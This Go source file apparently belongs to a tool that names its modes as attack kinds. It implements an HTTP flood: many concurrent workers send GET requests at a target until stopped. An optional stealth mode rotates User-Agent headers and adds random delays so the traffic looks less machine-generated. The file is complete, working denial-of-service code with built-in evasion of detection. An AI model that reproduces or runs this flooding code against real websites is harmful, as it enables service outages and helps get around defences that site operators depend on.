package engine

import (
	"context"
	"io"
	"math/rand"
	"net/http"
	"sync"
	"time"

	"github.com/garuda-lt/garuda/internal/config"
)

type httpFlood struct {
	target      string
	connections int
	stealth     bool
	client      *http.Client
}

func newHTTPFlood(cfg config.Resolved, client *http.Client) *httpFlood {
	return &httpFlood{
		target:      cfg.Target,
		connections: cfg.Connections,
		stealth:     cfg.Stealth,
		client:      client,
	}
}

func (a *httpFlood) Kind() Kind { return KindHTTPFlood }

// Run floods the target with GET requests from a.connections concurrent
// workers until ctx is done. In stealth mode each worker rotates User-Agents
// and pauses a jittered interval between requests so the stream does not look
// machine-regular.
func (a *httpFlood) Run(ctx context.Context, stats *Stats) error {
	var wg sync.WaitGroup
	for i := 0; i < a.connections; i++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			a.worker(ctx, rand.New(rand.NewSource(seed)), stats)
		}(time.Now().UnixNano() + int64(i))
	}
	wg.Wait()
	return nil
}

func (a *httpFlood) worker(ctx context.Context, rng *rand.Rand, stats *Stats) {
	for {
		select {
		case <-ctx.Done():
			return
		default:
		}

		if ok := a.fire(ctx, rng, stats); !ok {
			// Request could not even be built; every retry would fail the
			// same way, so stop this worker instead of spinning.
			return
		}

		if a.stealth {
			select {
			case <-ctx.Done():
				return
			case <-time.After(time.Duration(50+rng.Intn(250)) * time.Millisecond):
			}
		}
	}
}

// fire issues one request and records the outcome. It returns false only when
// the request could not be constructed at all.
func (a *httpFlood) fire(ctx context.Context, rng *rand.Rand, stats *Stats) bool {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.target, nil)
	if err != nil {
		stats.RecordFailure(err)
		return false
	}
	if a.stealth {
		req.Header.Set("User-Agent", userAgents[rng.Intn(len(userAgents))])
	}

	start := time.Now()
	resp, err := a.client.Do(req)
	if err != nil {
		if ctx.Err() != nil {
			// Shutdown in flight, not a target failure.
			return true
		}
		stats.RecordFailure(err)
		return true
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	stats.RecordSuccess(time.Since(start))
	return true
}
